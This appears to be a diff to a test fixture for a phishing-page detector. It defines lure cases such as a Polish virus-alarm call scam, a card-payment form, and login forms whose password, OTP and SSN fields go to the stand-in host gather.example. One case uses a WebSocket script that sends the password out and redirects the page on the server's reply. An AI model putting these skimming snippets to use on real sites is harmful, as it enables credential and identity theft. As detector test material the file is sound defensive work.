@@ -1,5 +1,6 @@
 import type { GivenDraft } from "./given-draft.ts"
 import { site } from "./innocent-site.ts"
+import { sentByScript } from "./rule-cases.ts"
 
 const card = `<form action="/pay"><input name="cardnumber"><input name="cvv"></form>`
 const login = (action: string) => `<form action="${action}" method="post"><input type="password" name="p"></form>`
@@ -55,15 +56,11 @@ export const lureCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
     site("a call for an alarm", "Ferry", `<h1>Wirus: proszę natychmiast dzwonić, zainfekowany</h1>${call}`),
   ],
   [
-    "small-sum-by-card",
-    site("a small sum by card", "Ferry", `<h1>Pay 1.99 €</h1>${card.replace("/pay", "https://gather.example/")}`),
-  ],
-  [
     "secret-by-socket",
     site(
       "a secret by a socket",
       ours,
-      `<h1>${ours}</h1>${login("/next.php")}${script(`new WebSocket("wss://gather.example/").send(p.value)`)}`,
+      `<h1>${ours}</h1>${login("/next.php")}${script(`const s=new WebSocket("wss://gather.example/");s.send(p.value);s.onmessage=(m)=>{location=m.data}`)}`,
     ),
   ],
   [
@@ -71,7 +68,7 @@ export const lureCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
     site(
       "three secrets",
       ours,
-      `<h1>${ours}</h1><form action="https://gather.example/"><input type="password"><input name="otp"><input name="ssn"></form>`,
+      `<h1>${ours}</h1>${sentByScript("https://gather.example/", `<input type="password"><input name="otp"><input name="ssn">`)}`,
     ),
   ],
   [
